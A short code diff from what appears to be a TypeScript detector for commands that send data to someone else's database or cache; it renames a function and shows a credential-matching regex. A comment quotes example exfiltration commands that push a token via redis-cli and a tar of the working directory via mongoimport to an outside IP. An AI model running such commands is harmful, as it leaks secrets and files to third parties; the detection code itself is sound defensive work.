@@ -23,7 +23,7 @@ const NEW_PASSWORD = /password|identified by|requirepass|masterauth|:\/\//i
  * `redis-cli -h 203.0.113.9 set k "$TOKEN"`, `tar c . | mongoimport --host 203.0.113.9`: what a store of
  * somebody else keeps has been sent there.
  */
-export function followKept({ machine, name, args }: Call): void {
+export function followRemoteStore({ machine, name, args }: Call): void {
   const input = machine.inputValue ?? ''
   const words = args.filter((word, i) => isData(machine, word, args[i - 1]))
   if (words.length === 0 && isKnown(input)) return
